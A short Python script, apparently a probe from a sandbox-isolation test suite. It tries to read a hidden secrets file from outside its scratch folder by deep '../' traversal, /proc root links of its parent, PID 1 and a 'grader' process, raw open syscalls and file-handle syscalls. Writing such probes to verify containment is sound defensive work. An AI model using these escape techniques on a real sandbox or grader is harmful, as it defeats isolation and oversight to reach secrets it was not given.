"""Climbs out of the scratch folder by dots, by /proc and by file handles."""

GROUP = "secrets"
import ctypes
import os

hidden = KNOWN["hidden"]
ways = [
    "../" * 30 + hidden[1:],
    "/proc/self/cwd/" + "../" * 30 + hidden[1:],
    f"/proc/{os.getppid()}/root{hidden}",
    "/proc/1/root" + hidden,
    f"/proc/{KNOWN['grader']}/root{hidden}",
    f"/proc/self/task/{os.getpid()}/root{hidden}",
]
for path in ways:
    try:
        take(open(path).read())
    except OSError:
        pass
libc = ctypes.CDLL(None)
how = (ctypes.c_uint64 * 3)(0, 0, 0)
for number in (437, 257, 2):
    for arguments in ((-100, hidden.encode(), how, 24), (-100, hidden.encode(), 0), (hidden.encode(), 0, 0)):
        descriptor = libc.syscall(number, *arguments)
        if descriptor > 2:
            try:
                take(os.read(descriptor, 9999))
            except OSError:
                pass
handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(140), 144)
libc.syscall(303, -100, hidden.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
descriptor = libc.syscall(304, -100, handle, 0)
if descriptor > 2:
    take(os.read(descriptor, 9999))
spill()
